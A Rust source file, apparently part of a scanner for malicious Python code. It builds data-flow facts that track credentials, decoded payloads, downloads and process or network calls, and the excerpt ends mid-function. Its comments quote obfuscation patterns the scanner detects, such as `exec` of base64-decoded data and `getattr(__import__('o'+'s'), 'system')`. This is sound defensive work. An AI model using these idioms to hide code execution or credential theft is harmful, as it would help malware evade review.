//! Facts extracted from one Python file, once, for every rule to read.
//!
//! The rules reason about *what flows where* inside a file, not about
//! spelling: `from os import system as s; s(cmd)` is a call to `os.system`,
//! `getattr(__import__('o'+'s'), 'system')` too, and
//! `data = base64.b64decode(blob); exec(data)` is an `exec` of decoded data.
//!
//! The layer is deliberately simple and flow-insensitive:
//! - imports map local names to qualified names (`s` → `os.system`);
//! - every assignment gives its target the *labels* of its right-hand side
//!   (what kind of data it holds: host name, user name, secrets, decoded
//!   bytes, downloaded bytes, a socket…), iterated to a fixpoint, with
//!   function-local scopes falling back to module scope;
//! - arguments passed to functions defined in the same file flow into their
//!   parameters, and a call to such a function inherits what the function
//!   does (sends over the network, runs a process, executes code);
//! - string constants, concatenations and names bound to constants are
//!   resolved so rules can read command lines, URLs and paths.
//!
//! Everything is bounded: recursion depth, number of strings kept, and the
//! fixpoint iterations, so hostile files cannot make the analysis explode.

use rustc_hash::{FxHashMap as HashMap, FxHashSet as HashSet};

use tree_sitter::Node;

use crate::SourceFile;
use crate::syntax::{NONE, Node as FlatNode, flatten};

/// What kind of data a value holds, as a small bit set.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub struct Labels(pub u32);

impl Labels {
    /// No label.
    pub const NONE: Labels = Labels(0);
    /// The machine's host name.
    pub const HOST: Labels = Labels(1);
    /// The user's name.
    pub const USER: Labels = Labels(1 << 1);
    /// Local IP or MAC address.
    pub const IP: Labels = Labels(1 << 2);
    /// Operating-system name or release (weak alone).
    pub const OS: Labels = Labels(1 << 3);
    /// The whole process environment.
    pub const ENV_ALL: Labels = Labels(1 << 4);
    /// A credential: a sensitive file path or its contents, a secret env var.
    pub const SECRET: Labels = Labels(1 << 5);
    /// Bytes produced by a decoder (base64, hex, zlib, marshal, rot13…).
    pub const DECODED: Labels = Labels(1 << 6);
    /// Bytes received from the network.
    pub const FETCHED: Labels = Labels(1 << 7);
    /// A network client object (session, connection, pool).
    pub const NETOBJ: Labels = Labels(1 << 8);
    /// A raw socket.
    pub const SOCKET: Labels = Labels(1 << 9);
    /// A string assembled from character codes (`chr(101)+chr(120)…`).
    pub const CHR: Labels = Labels(1 << 10);
    /// Data read from a file.
    pub const FILEDATA: Labels = Labels(1 << 11);
    /// Pixel data of an image.
    pub const IMAGE: Labels = Labels(1 << 12);
    /// Output of a child process.
    pub const PROCOUT: Labels = Labels(1 << 13);

    /// Identity of the host and user: what recon sends home.
    pub const IDENTITY: Labels = Labels(1 | (1 << 1) | (1 << 2) | (1 << 4));

    /// True when any bit of `other` is set here.
    #[must_use]
    pub fn has(self, other: Labels) -> bool {
        self.0 & other.0 != 0
    }

    /// Human names of the labels set, for evidence lines.
    #[must_use]
    pub fn names(self) -> Vec<&'static str> {
        const N: [(Labels, &str); 14] = [
            (Labels::HOST, "hostname"),
            (Labels::USER, "username"),
            (Labels::IP, "ip/mac address"),
            (Labels::OS, "os info"),
            (Labels::ENV_ALL, "whole environment"),
            (Labels::SECRET, "credentials"),
            (Labels::DECODED, "decoded data"),
            (Labels::FETCHED, "downloaded data"),
            (Labels::NETOBJ, "network client"),
            (Labels::SOCKET, "socket"),
            (Labels::CHR, "chr()-built string"),
            (Labels::FILEDATA, "file contents"),
            (Labels::IMAGE, "image pixels"),
            (Labels::PROCOUT, "process output"),
        ];
        N.iter()
            .filter(|(l, _)| self.has(*l))
            .map(|(_, n)| *n)
            .collect()
    }
}

impl std::ops::BitOr for Labels {
    type Output = Labels;
    fn bitor(self, rhs: Labels) -> Labels {
        Labels(self.0 | rhs.0)
    }
}

impl std::ops::BitOrAssign for Labels {
    fn bitor_assign(&mut self, rhs: Labels) {
        self.0 |= rhs.0;
    }
}

impl std::ops::BitAnd for Labels {
    type Output = Labels;
    fn bitand(self, rhs: Labels) -> Labels {
        Labels(self.0 & rhs.0)
    }
}

/// What a call does, as a small bit set (also summarises local functions).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub struct Caps(pub u8);

impl Caps {
    /// Talks to the network (HTTP, sockets, DNS of a built name, SMTP…).
    pub const NET: Caps = Caps(1);
    /// Executes Python code (`exec`, `eval`, `compile`, `marshal`…).
    pub const CODE: Caps = Caps(1 << 1);
    /// Starts a process or a shell.
    pub const PROC: Caps = Caps(1 << 2);
    /// Writes a file.
    pub const WRITE: Caps = Caps(1 << 3);

    /// True when any bit of `other` is set here.
    #[must_use]
    pub fn has(self, other: Caps) -> bool {
        self.0 & other.0 != 0
    }
}

impl std::ops::BitOrAssign for Caps {
    fn bitor_assign(&mut self, rhs: Caps) {
        self.0 |= rhs.0;
    }
}

/// One call in the file, with its target resolved through aliases.
#[derive(Clone, Debug)]
pub struct Call {
    /// Qualified target (`os.system`, `exec`, `requests.post`); `?.name`
    /// for a method on an unknown object; `local:name` for a function
    /// defined in this file.
    pub target: String,
    /// The last component of the target (`system`, `post`).
    pub method: String,
    /// Labels of the object a method is called on.
    pub recv: Labels,
    /// True when the target was reached through `getattr`, `__builtins__`
    /// or `__import__` with a constant name: hiding the API is a signal.
    pub indirect: bool,
    /// 1-based line.
    pub line: u32,
    /// 1-based column.
    pub col: u32,
    /// Source text of the call (clipped later).
    pub text: String,
    /// Union of the labels of all arguments.
    pub arg_labels: Labels,
    /// Labels of the first positional argument alone.
    pub first_labels: Labels,
    /// Resolved string values found in the arguments (constants,
    /// concatenations, names bound to constants), in order.
    pub strings: Vec<String>,
    /// Identifiers used in the arguments.
    pub idents: Vec<String>,
    /// Keyword arguments: name and source text of the value.
    pub kwargs: Vec<(String, String)>,
    /// Keyword arguments: name and labels of the value.
    pub kw_labels: Vec<(String, Labels)>,
    /// Number of positional arguments.
    pub npos: usize,
    /// True when an argument is assembled (`+`, `%`, f-string, `.format`).
    pub built: bool,
    /// What the call does (direct effect, or summary of a local function).
    pub caps: Caps,
    /// Labels of the value the call returns.
    pub result: Labels,
    /// Index into [`Facts::functions`] of the enclosing function, if any.
    pub scope: Option<usize>,
}

impl Call {
    /// All argument strings joined by spaces: a command line view.
    #[must_use]
    pub fn cmdline(&self) -> String {
        self.strings.join(" ")
    }

    /// The source text of a keyword argument.
    #[must_use]
    pub fn kwarg(&self, name: &str) -> Option<&str> {
        self.kwargs
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    /// True for a target equal to one of `names`.
    #[must_use]
    pub fn is(&self, names: &[&str]) -> bool {
        names.contains(&self.target.as_str())
    }
}

/// A function defined in the file.
#[derive(Clone, Debug)]
pub struct FunctionDef {
    /// Its name.
    pub name: String,
    /// Parameter names, in order.
    pub params: Vec<String>,
    /// 1-based line of the `def`.
    pub line: u32,
    /// What its body does (after propagation through local calls).
    pub caps: Caps,
}

/// A class defined in the file.
#[derive(Clone, Debug)]
pub struct ClassDef {
    /// Its name.
    pub name: String,
    /// Base classes, resolved through imports (`setuptools.command.install.install`).
    pub bases: Vec<String>,
    /// 1-based line.
    pub line: u32,
}

/// A string literal.
#[derive(Clone, Debug)]
pub struct StrLit {
    /// The decoded value (escapes applied; interpolations as `{}`).
    pub value: String,
    /// 1-based line.
    pub line: u32,
    /// 1-based column.
    pub col: u32,
    /// Length of the literal in the source, in bytes.
    pub src_len: usize,
    /// Scope it appears in.
    pub scope: Option<usize>,
}

/// Everything the rules need to know about one file.
#[derive(Debug)]
pub struct Facts<'a> {
    /// The file.
    pub file: SourceFile<'a>,
    /// Local name → qualified name, from imports.
    pub imports: HashMap<String, String>,
    /// Modules imported (qualified, as written).
    pub modules: HashSet<String>,
    /// Every call.
    pub calls: Vec<Call>,
    /// Functions defined.
    pub functions: Vec<FunctionDef>,
    /// Classes defined.
    pub classes: Vec<ClassDef>,
    /// String literals of at least four characters (at most [`MAX_STRINGS`]).
    pub strings: Vec<StrLit>,
    /// True when the parser had to recover from syntax errors.
    pub has_errors: bool,
}

/// The most string literals kept per file.
pub const MAX_STRINGS: usize = 50_000;
const MAX_DEPTH: usize = 96;
const MAX_STR_VALUES: usize = 64;
/// Longest constant assembled from concatenations; longer ones are dropped
/// so chains of `x = x + '…'` cannot grow quadratically.
const MAX_CONST_LEN: usize = 8192;

type Key = (Option<usize>, String);

/// Values bound to names, per scope, looked up by `&str` without building
/// a key (the lookups run for every identifier of every expression).
struct Scoped<V>(HashMap<String, Vec<(Option<usize>, V)>>);

impl<V> Default for Scoped<V> {
    fn default() -> Self {
        Scoped(HashMap::default())
    }
}

impl<V> Scoped<V> {
    fn get(&self, scope: Option<usize>, name: &str) -> Option<&V> {
        self.0
            .get(name)?
            .iter()
            .find(|(s, _)| *s == scope)
            .map(|(_, v)| v)
    }

    /// The value bound to `key`, inserted by `make` when absent.
    fn entry_with(&mut self, key: Key, make: impl FnOnce() -> V) -> &mut V {
        let (scope, name) = key;
        let list = self.0.entry(name).or_default();
        let at = match list.iter().position(|(s, _)| *s == scope) {
            Some(i) => i,
            None => {
                list.push((scope, make()));
                list.len() - 1
            }
        };
        &mut list[at].1
    }
}

struct Builder<'t, 's> {
    src: &'s str,
    imports: HashMap<String, String>,
    /// First components of the imports' qualified names (`os` for
    /// `os.path`), filled once the walk has seen every import.
    import_roots: HashSet<String>,
    modules: HashSet<String>,
    functions: Vec<FunctionDef>,
    fn_nodes: Vec<N<'t>>,
    classes: Vec<ClassDef>,
    strings: Vec<StrLit>,
    assigns: Vec<(Option<usize>, N<'t>, N<'t>)>,
    call_nodes: Vec<(N<'t>, Option<usize>)>,
    exec_stmts: Vec<(N<'t>, Option<usize>)>,
    returns: Vec<(usize, N<'t>)>,
    fn_ret: HashMap<usize, Labels>,
    local_fns: HashMap<String, Vec<usize>>,
    lambdas: HashMap<String, N<'t>>,
    vars: Scoped<Labels>,
    consts: Scoped<Vec<String>>,
    aliases: Scoped<String>,
    /// Labels per node id, once the fixpoint is reached.
    memo: Vec<Option<Labels>>,
    use_memo: bool,
}

/// A node of a flattened tree ([`crate::syntax`]), with the part of
/// tree-sitter's `Node` API that extraction uses.
#[derive(Clone, Copy)]
struct N<'f> {
    nodes: &'f [FlatNode],
    i: u32,
}

impl PartialEq for N<'_> {
    fn eq(&self, other: &Self) -> bool {
        self.i == other.i && std::ptr::eq(self.nodes, other.nodes)
    }
}

impl<'f> N<'f> {
    fn node(self) -> &'f FlatNode {
        // `i` always indexes `nodes`: an `N` is only made from a valid index.
        &self.nodes[self.i as usize]
    }

    fn at(self, i: u32) -> Option<N<'f>> {
        (i != NONE).then_some(N {
            nodes: self.nodes,
            i,
        })
    }

    /// Stable id within the tree (its index).
    fn id(self) -> usize {
        self.i as usize
    }

    fn k(self) -> &'static str {
        self.node().kind
    }

    fn is_named(self) -> bool {
        self.node().named
    }

    fn byte_range(self) -> std::ops::Range<usize> {
        let n = self.node();
        n.start as usize..n.end as usize
    }

    /// Every child kept: named ones and tokens that carry a field.
    fn kids(self) -> impl Iterator<Item = N<'f>> {
        let nodes = self.nodes;
        std::iter::successors(self.at(self.node().first), move |c| {
            c.at(nodes[c.i as usize].next)
        })
    }

    /// The named children.
    fn named_kids(self) -> impl Iterator<Item = N<'f>> {
        self.kids().filter(|c| c.is_named())
    }

    fn named_child(self, i: usize) -> Option<N<'f>> {
        self.named_kids().nth(i)
    }

    /// The first child in field `name`.
    fn field(self, name: &str) -> Option<N<'f>> {
        self.kids().find(|c| c.node().field == Some(name))
    }
}

/// Extract facts from a parsed file.
#[must_use]
pub fn extract<'a>(file: SourceFile<'a>, tree: &tree_sitter::Tree) -> Facts<'a> {
    let nodes = flatten(tree, &crate::syntax::PYTHON);
    let root = N {
        nodes: &nodes,
        i: 0,
    };
    let mut b = Builder {
        src: file.text,
        imports: HashMap::default(),
        import_roots: HashSet::default(),
        modules: HashSet::default(),
        functions: Vec::new(),
        fn_nodes: Vec::new(),
        classes: Vec::new(),
        strings: Vec::new(),
        assigns: Vec::new(),
        call_nodes: Vec::new(),
        exec_stmts: Vec::new(),
        returns: Vec::new(),
        fn_ret: HashMap::default(),
        local_fns: HashMap::default(),
        lambdas: HashMap::default(),
        vars: Scoped::default(),
        consts: Scoped::default(),
        aliases: Scoped::default(),
        memo: vec![None; nodes.len()],
        use_memo: false,
    };
    b.walk(root);
    b.import_roots = b
        .imports
        .values()
        .map(|q| q.split('.').next().unwrap_or(q).to_owned())
        .collect();
    b.solve();
    let calls = b.build_calls();
    let Builder {
        imports,
        modules,
        functions,
        classes,
        strings,
        ..
    } = b;
    Facts {
        file,
        imports,
        modules,
        calls,
        functions,
        classes,
        strings,
        has_errors: tree.root_node().has_error(),
    }
}

fn line_col(n: N<'_>) -> (u32, u32) {
    let f = n.node();
    (f.row.saturating_add(1), f.col.saturating_add(1))
}

fn children<'t>(n: N<'t>) -> Vec<N<'t>> {
    n.named_kids().collect()
}

impl<'t, 's> Builder<'t, 's> {
    fn text(&self, n: N<'t>) -> &'s str {
        // The source is already a `str`: slice it rather than validate
        // the bytes again on every call.
        self.src.get(n.byte_range()).unwrap_or("")
    }

    /// The first `max` bytes of a node's text, without touching the rest
    /// (nested calls would make full copies quadratic).
    fn text_prefix(&self, n: N<'t>, max: usize) -> String {
        let r = n.byte_range();
        let end = r.end.min(r.start.saturating_add(max));
        self.src
            .as_bytes()
            .get(r.start..end)
            .map(|b| String::from_utf8_lossy(b).into_owned())
            .unwrap_or_default()
    }

    /// Iterative walk collecting imports, definitions, assignments, calls
    /// and strings, with the enclosing function of each.
    fn walk(&mut self, root: N<'t>) {
        // The flat tree is in pre-order: a parent comes before its
        // children, so one pass over the array sees every node with the
        // scope its parent gave its children.
        let nodes = root.nodes;
        let mut child_scope: Vec<Option<usize>> = vec![None; nodes.len()];
        for i in 0..nodes.len() {
            let n = N {
                nodes,
                i: u32::try_from(i).unwrap_or(NONE),
            };
            let scope = child_scope.get(n.node().parent as usize).copied().flatten();
            let inner = if n.is_named() {
                self.visit(n, scope)
            } else {
                scope
            };
            if let Some(c) = child_scope.get_mut(i) {
                *c = inner;
            }
        }
    }

    /// Record what one node contributes; returns the scope of its children.
    fn visit(&mut self, n: N<'t>, scope: Option<usize>) -> Option<usize> {
        let mut child_scope = scope;
        match n.k() {
                "import_statement" => self.import(n, None),
                "import_from_statement" => {
                    let module = n
                        .field("module_name")
                        .map(|m| self.text(m).to_owned());
                    self.import(n, module);
                }
                "function_definition" => {
                    let name = n
                        .field("name")
                        .map(|x| self.text(x).to_owned())
                        .unwrap_or_default();
                    let params = n
                        .field("parameters")
                        .map(|p| self.params(p))
                        .unwrap_or_default();
                    let idx = self.functions.len();
                    self.local_fns.entry(name.clone()).or_default().push(idx);
                    self.functions.push(FunctionDef {
                        name,
                        params,
                        line: line_col(n).0,
                        caps: Caps::default(),
                    });
                    self.fn_nodes.push(n);
                    child_scope = Some(idx);
                }
                "class_definition" => {
                    let name = n
                        .field("name")
                        .map(|x| self.text(x).to_owned())
                        .unwrap_or_default();
                    let bases = n
                        .field("superclasses")
                        .map(|s| {
                            children(s)
                                .into_iter()
                                .filter(|c| matches!(c.k(), "identifier" | "attribute"))
                                .map(|c| self.dotted(c, None).unwrap_or_default())
                                .collect()
                        })
                        .unwrap_or_default();
                    self.classes.push(ClassDef {
                        name,
                        bases,
                        line: line_col(n).0,
                    });
                }
                "assignment" | "augmented_assignment" => {
                    if let (Some(l), Some(r)) = (
                        n.field("left"),
                        n.field("right"),
                    ) {
                        self.assigns.push((scope, l, r));
                    }
                }
                "named_expression" => {
                    if let (Some(l), Some(r)) = (
                        n.field("name"),
                        n.field("value"),
                    ) {
                        self.assigns.push((scope, l, r));
                    }
                }
                "as_pattern" => {
                    // `with open(p) as f` / `except E as e`
                    let alias = n
                        .field("alias")
                        .and_then(|a| a.named_child(0));
                    let value = n.named_child(0);
                    if let (Some(a), Some(v)) = (alias, value) {
                        self.assigns.push((scope, a, v));
                    }
                }
                "for_statement" | "for_in_clause" => {
                    if let (Some(l), Some(r)) = (
                        n.field("left"),
                        n.field("right"),
                    ) {
                        self.assigns.push((scope, l, r));
                    }
                }
                "concatenated_string"
                    // Implicitly joined literals: one value for blob rules.
                    if self.strings.len() < MAX_STRINGS => {
                        let value: String = children(n)
                            .into_iter()
                            .map(|c| self.string_value(c))
                            .collect();
                        let (line, col) = line_col(n);
                        self.strings.push(StrLit {
                            value,
                            line,
                            col,
                            src_len: n.byte_range().len(),
                            scope,
                        });
                    }
                "call" => {
                    self.call_nodes.push((n, scope));
                    // `buf.append(x)`, `d.update(x)`, `tar.add(p)`: the
                    // container now holds what was put in.
                    if let (Some(f), Some(args)) =
                        (n.field("function"), n.field("arguments"))
                        && f.k() == "attribute"
                        && let (Some(obj), Some(attr)) =
                            (f.field("object"), f.field("attribute"))
                        && matches!(obj.k(), "identifier" | "attribute")
                        && matches!(
                            self.text(attr),
                            "append" | "extend" | "update" | "add" | "write" | "writelines"
                                | "insert" | "put" | "setdefault" | "writestr"
                        )
                    {
                        self.assigns.push((scope, obj, args));
                    }
                }
                "exec_statement" => self.exec_stmts.push((n, scope)),
                "return_statement" => {
                    if let (Some(s), Some(v)) = (scope, n.named_child(0)) {
                        self.returns.push((s, v));
                    }
                }
                "string"
                    if self.strings.len() < MAX_STRINGS => {
                        let value = self.string_value(n);
                        if value.chars().count() >= 4 {
                            let (line, col) = line_col(n);
                            self.strings.push(StrLit {
                                value,
                                line,
                                col,
                                src_len: n.byte_range().len(),
                                scope,
                            });
                        }
                    }
                _ => {}
            }
        child_scope
    }

    fn params(&self, p: N<'t>) -> Vec<String> {
        children(p)
            .into_iter()
            .filter_map(|c| match c.k() {
                "identifier" => Some(self.text(c).to_owned()),
                "default_parameter" | "typed_default_parameter" => {
                    c.field("name").map(|x| self.text(x).to_owned())
                }
                "typed_parameter" => c.named_child(0).map(|x| self.text(x).to_owned()),
                _ => None,
            })
            .collect()
    }

    fn import(&mut self, n: N<'t>, from: Option<String>) {
        for c in children(n) {
            if Some(c) == n.field("module_name") {
                continue;
            }
            let (name, alias) = match c.k() {
                "dotted_name" => (self.text(c).to_owned(), None),
                "aliased_import" => (
                    c.field("name")
                        .map(|x| self.text(x).to_owned())
                        .unwrap_or_default(),
                    c.field("alias").map(|x| self.text(x).to_owned()),
                ),
                _ => continue,
            };
            match &from {
                Some(m) => {
                    let m = m.trim_start_matches('.');
                    let q = if m.is_empty() {
                        name.clone()
                    } else {
                        format!("{m}.{name}")
                    };
                    self.modules.insert(m.to_owned());
                    self.imports.insert(alias.unwrap_or(name), q);
                }
                None => {
                    self.modules.insert(name.clone());
                    match alias {
                        Some(a) => {
                            self.imports.insert(a, name);
                        }
                        None => {
                            // `import urllib.request` binds `urllib`.
                            let root = name.split('.').next().unwrap_or(&name).to_owned();
                            self.imports.entry(root.clone()).or_insert(root);
                        }
                    }
                }
            }
        }
    }

    /// The value of a string literal: escapes applied unless raw,
    /// interpolations replaced by `{}`.
    fn string_value(&self, n: N<'t>) -> String {
        let mut raw = false;
        let mut bytes = false;
        let mut out = String::new();
        for c in children(n) {
            match c.k() {
                "string_start" => {
                    let p = self.text(c).to_ascii_lowercase();
                    raw = p.contains('r');
                    bytes = p.contains('b');
                }
                "string_content" => {
                    let t = self.text(c);
                    if raw {
                        out.push_str(t);
                    } else {
                        unescape_into(t, bytes, &mut out);
                    }
                }
                "interpolation" => out.push_str("{}"),
                _ => {}
            }
        }
        out
    }

    /// A dotted name for an identifier/attribute chain, with the root
    /// resolved through imports and aliases. `None` when the chain is not
    /// rooted in a name.
    fn dotted(&self, n: N<'t>, scope: Option<usize>) -> Option<String> {
        self.dotted_d(n, scope, 0)
    }

    fn dotted_d(&self, n: N<'t>, scope: Option<usize>, depth: usize) -> Option<String> {
        if depth > 32 {
            return None;
        }
        match n.k() {
            "identifier" => {
                let t = self.text(n);
                if let Some(q) = self.imports.get(t) {
                    return Some(q.clone());
                }
                if let Some(a) = self.lookup_alias(scope, t) {
                    return Some(a.to_owned());
                }
                if matches!(t, "__builtins__" | "builtins" | "__builtin__") {
                    return Some("builtins".to_owned());
                }
                Some(t.to_owned())
            }
            "attribute" => {
                let obj = n.field("object")?;
                let attr = n.field("attribute")?;
                let base = self.dotted_d(obj, scope, depth + 1)?;
                Some(format!("{base}.{}", self.text(attr)))
            }
            "call" => {
                // `__import__('os')`, `importlib.import_module('os')`
                let f = n.field("function")?;
                let fname = self.dotted_d(f, scope, depth + 1)?;
                if matches!(
                    fname.as_str(),
                    "__import__" | "importlib.import_module" | "builtins.__import__"
                ) {
                    let args = n.field("arguments")?;
                    let first = args.named_child(0)?;
                    return self.const_str(first, scope, depth + 1);
                }
                None
            }
            "parenthesized_expression" => self.dotted_d(n.named_child(0)?, scope, depth + 1),
            _ => None,
        }
    }

    fn lookup_alias(&self, scope: Option<usize>, name: &str) -> Option<&str> {
        if scope.is_some()
            && let Some(a) = self.aliases.get(scope, name)
        {
            return Some(a);
        }
        self.aliases.get(None, name).map(String::as_str)
    }

    fn lookup_var(&self, scope: Option<usize>, name: &str) -> Labels {
        let mut l = Labels::NONE;
        if scope.is_some()
            && let Some(x) = self.vars.get(scope, name)
        {
            l |= *x;
        }
        if let Some(x) = self.vars.get(None, name) {
            l |= *x;
        }
        l
    }

    fn lookup_consts(&self, scope: Option<usize>, name: &str) -> Option<&Vec<String>> {
        if scope.is_some()
            && let Some(v) = self.consts.get(scope, name)
        {
            return Some(v);
        }
        self.consts.get(None, name)
    }

    /// A single constant string value for an expression, if it resolves to
    /// exactly one.
    fn const_str(&self, n: N<'t>, scope: Option<usize>, depth: usize) -> Option<String> {
        let v = self.const_values(n, scope, depth);
        if v.len() == 1 {
            v.into_iter().next()
        } else {
            None
        }
    }

    /// Possible constant string values of an expression (bounded).
    fn const_values(&self, n: N<'t>, scope: Option<usize>, depth: usize) -> Vec<String> {
        if depth > MAX_DEPTH {
            return Vec::new();
        }
        match n.k() {
            "string" => vec![self.string_value(n)],
            "concatenated_string" => {
                let mut s = String::new();
                for c in children(n) {
                    s.push_str(&self.string_value(c));
                }
                vec![s]
            }
            "identifier" => self
                .lookup_consts(scope, self.text(n))
                .cloned()
                .unwrap_or_default(),
            "parenthesized_expression" => n
                .named_child(0)
                .map(|c| self.const_values(c, scope, depth + 1))
                .unwrap_or_default(),
            // The values a loop over a literal collection takes.
            "tuple" | "list" | "set" => {
                let mut out = Vec::new();
                for c in children(n).into_iter().take(MAX_STR_VALUES) {
                    out.extend(self.const_values(c, scope, depth + 1).into_iter().take(4));
                }
                out
            }
            "binary_operator" => {
                let (Some(l), Some(r)) = (n.field("left"), n.field("right")) else {
                    return Vec::new();
                };
                let op = n.field("operator").map(|o| self.text(o)).unwrap_or("");
                let lv = self.const_values(l, scope, depth + 1);
                match op {
                    "+" => {
                        let rv = self.const_values(r, scope, depth + 1);
                        // An unknown part still leaves the known text useful.
                        let lv = if lv.is_empty() {
                            vec![String::new()]
                        } else {
                            lv
                        };
                        let rv = if rv.is_empty() {
                            vec![String::new()]
                        } else {
                            rv
                        };
                        let mut out = Vec::new();
                        for a in lv.iter().take(8) {
                            for b in rv.iter().take(8) {
                                if a.len() + b.len() <= MAX_CONST_LEN {
                                    out.push(format!("{a}{b}"));
                                }
                            }
                        }
                        out
                    }
                    // `"%s/x" % y`: the template is what is known.
                    "%" => lv,
                    _ => Vec::new(),
                }
            }
            "call" => {
                let Some(f) = n.field("function") else {
                    return Vec::new();
                };
                let args = n.field("arguments");
                if f.k() == "attribute" {
                    let method = f.field("attribute").map(|a| self.text(a)).unwrap_or("");
                    let obj = f.field("object");
                    match method {
                        // `"{}/x".format(y)`: the template.
                        "format" | "strip" | "lower" | "upper" | "encode" | "decode" => {
                            return obj
                                .map(|o| self.const_values(o, scope, depth + 1))
                                .unwrap_or_default();
                        }
                        // `"".join([...])` / `os.path.join(a, b)`
                        "join" => {
                            let sep = obj
                                .and_then(|o| self.const_str(o, scope, depth + 1))
                                .unwrap_or_else(|| "/".to_owned());
                            let parts: Vec<String> = args
                                .map(|a| self.list_strings(a, scope, depth + 1))
                                .unwrap_or_default();
                            if parts.is_empty() {
                                return Vec::new();
                            }
                            return vec![parts.join(&sep)];
                        }
                        "expanduser" | "expandvars" | "abspath" | "normpath" | "Path" => {
                            return args
                                .and_then(|a| a.named_child(0))
                                .map(|a| self.const_values(a, scope, depth + 1))
                                .unwrap_or_default();
                        }
                        _ => {}
                    }
                }
                if let Some(name) = self.dotted(f, scope)
                    && matches!(
                        name.as_str(),
                        "str" | "pathlib.Path" | "Path" | "os.path.expanduser" | "os.path.join"
                    )
                {
                    let parts: Vec<String> = args
                        .map(|a| self.list_strings(a, scope, depth + 1))
                        .unwrap_or_default();
                    if !parts.is_empty() {
                        return vec![parts.join("/")];
                    }
                }
                Vec::new()
            }
            _ => Vec::new(),
        }
    }

    /// Strings of a list/tuple/argument list, each element resolved.
    fn list_strings(&self, n: N<'t>, scope: Option<usize>, depth: usize) -> Vec<String> {
        let mut out = Vec::new();
        let mut kids = children(n);
        if kids.len() == 1 && matches!(kids[0].k(), "list" | "tuple") {
            kids = children(kids[0]);
        }
        for c in kids {
            if c.k() == "keyword_argument" {
                continue;
            }
            if let Some(s) = self.const_values(c, scope, depth + 1).into_iter().next() {
                out.push(s);
            }
        }
        out
    }

    /// Fixpoint over assignments and local calls.
    fn solve(&mut self) {
        // Aliases first (they decide call targets): `s = os.system`,
        // `POST = python3POST`.
        for i in 0..self.assigns.len() {
            let (scope, l, r) = self.assigns[i];
            if l.k() != "identifier" {
                continue;
            }
            let name = self.text(l).to_owned();
            let target = match r.k() {
                "identifier" => {
                    let t = self.text(r);
                    if self.local_fns.contains_key(t) {
                        Some(format!("local:{t}"))
                    } else if let Some(q) = self.imports.get(t) {
                        Some(q.clone())
                    } else {
                        // `_run = exec`: a builtin kept under another name.
                        matches!(
                            t,
                            "exec" | "eval" | "compile" | "__import__" | "getattr" | "open"
                        )
                        .then(|| t.to_owned())
                    }
                }
                "attribute" => self
                    .dotted(r, scope)
                    .filter(|d| d.contains('.') && is_module_rooted(d, &self.import_roots)),
                "call" => self.getattr_target(r, scope).map(|(t, _)| t),
                _ => None,
            };
            if let Some(t) = target {
                self.aliases.entry_with((scope, name), || t);
            }
        }
        // `_ = lambda x: zlib.decompress(base64.b64decode(x[::-1]))`: a call
        // of `_` returns what the lambda's body computes.
        for &(_, l, r) in &self.assigns {
            if l.k() == "identifier"
                && r.k() == "lambda"
                && let Some(body) = r.field("body")
            {
                self.lambdas.insert(self.text(l).to_owned(), body);
            }
        }
        for _ in 0..3 {
            let mut changed = false;
            for i in 0..self.assigns.len() {
                let (scope, l, r) = self.assigns[i];
                let lab = self.labels(r, scope, 0);
                let vals = self.const_values(r, scope, 0);
                for key in self.targets(l, scope) {
                    let e = self.vars.entry_with(key.clone(), Labels::default);
                    if (*e | lab) != *e {
                        *e |= lab;
                        changed = true;
                    }
                    if !vals.is_empty() {
                        let c = self.consts.entry_with(key, Vec::new);
                        for v in &vals {
                            if c.len() < MAX_STR_VALUES && !c.contains(v) {
                                c.push(v.clone());
                                changed = true;
                            }
                        }
                    }
                }
            }
            // What local functions return.
            for i in 0..self.returns.len() {
                let (fi, v) = self.returns[i];
                let lab = self.labels(v, Some(fi), 0);
                let e = self.fn_ret.entry(fi).or_default();
                if (*e | lab) != *e {
                    *e |= lab;
                    changed = true;
                }
            }
            // Arguments flow into the parameters of local functions.
            for i in 0..self.call_nodes.len() {
                let (n, scope) = self.call_nodes[i];
                let Some(f) = n.field("function") else {
                    continue;
                };
                let Some(fidx) = self.local_targets(f, scope) else {
                    continue;
                };
                let Some(args) = n.field("arguments") else {
                    continue;
                };
                let mut pos = 0usize;
                for a in children(args) {
                    let (pname, value) = if a.k() == "keyword_argument" {
                        (
                            a.field("name").map(|x| self.text(x).to_owned()),
                            a.field("value"),
                        )
                    } else {
                        pos += 1;
                        (None, Some(a))
                    };
                    let Some(value) = value else { continue };
                    let lab = self.labels(value, scope, 0);
                    if lab == Labels::NONE {
                        continue;
                    }
                    for &fi in &fidx {
                        let param = match &pname {
                            Some(p) => Some(p.clone()),
                            None => self.functions[fi].params.get(pos - 1).cloned(),
                        };
                        if let Some(p) = param {
                            let e = self.vars.entry_with((Some(fi), p), Labels::default);
                            if (*e | lab) != *e {
                                *e |= lab;
                                changed = true;
                            }
                        }
                    }
                }
            }
            if !changed {
                break;
            }
        }
    }

    /// Variable keys bound by an assignment target.
    fn targets(&self, l: N<'t>, scope: Option<usize>) -> Vec<Key> {
        self.targets_d(l, scope, 0)
    }

    fn targets_d(&self, l: N<'t>, scope: Option<usize>, depth: usize) -> Vec<Key> {
        if depth > 32 {
            return Vec::new();
        }
        match l.k() {
            "identifier" | "attribute" => vec![(scope, self.text(l).to_owned())],
            "pattern_list" | "tuple_pattern" | "list_pattern" | "expression_list" | "tuple" => {
                children(l)
                    .into_iter()
                    .flat_map(|c| self.targets_d(c, scope, depth + 1))
                    .collect()
            }
            "subscript" => l
                .field("value")
                .map(|v| self.targets_d(v, scope, depth + 1))
                .unwrap_or_default(),
            _ => Vec::new(),
        }
    }

    /// Local functions a callee expression names (directly or via alias).
    fn local_targets(&self, f: N<'t>, scope: Option<usize>) -> Option<Vec<usize>> {
        if f.k() != "identifier" {
            return None;
        }
        let t = self.text(f);
        if self.imports.contains_key(t) {
            return None;
        }
        let name = if let Some(v) = self.local_fns.get(t) {
            return Some(v.clone());
        } else if let Some(a) = self.lookup_alias(scope, t) {
            a.strip_prefix("local:")?.to_owned()
        } else {
            return None;
        };
        self.local_fns.get(&name).cloned()
    }

    /// `getattr(obj, "name")` → (`obj.name`, indirect).
    fn getattr_target(&self, n: N<'t>, scope: Option<usize>) -> Option<(String, bool)> {
        let f = n.field("function")?;
        let fname = self.dotted(f, scope)?;
        // `eval("o" + "s.system")`, `eval("\x65\x78\x65\x63")`: a constant
